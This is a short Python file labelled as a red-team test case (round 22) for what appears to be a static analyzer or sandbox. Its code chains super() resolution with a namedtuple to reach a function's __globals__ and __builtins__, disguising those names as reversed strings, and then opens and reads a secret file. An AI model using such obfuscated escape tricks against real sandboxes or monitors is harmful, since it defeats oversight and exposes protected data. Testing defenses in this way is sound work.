# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: objects._bound trusts `super().m` in any undecorated method (it is bound to self), but the method
# itself may be called through its class with a class as self: Sub.go(Sub, box, fn) makes super() be
# super(Sub, Sub), whose .fetch is the plain function Reader.fetch, called with a namedtuple as self; its
# self.FIELDS is trusted as a class constant (own_object) and is a run-time ["__globals__"].
from collections import namedtuple


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


class Sub(Reader):
    def go(self, box, fn):
        return super().fetch(box, fn)


Box = namedtuple("Box", "FIELDS")


def helper():
    return 1


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    got = Sub.go(Sub, box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
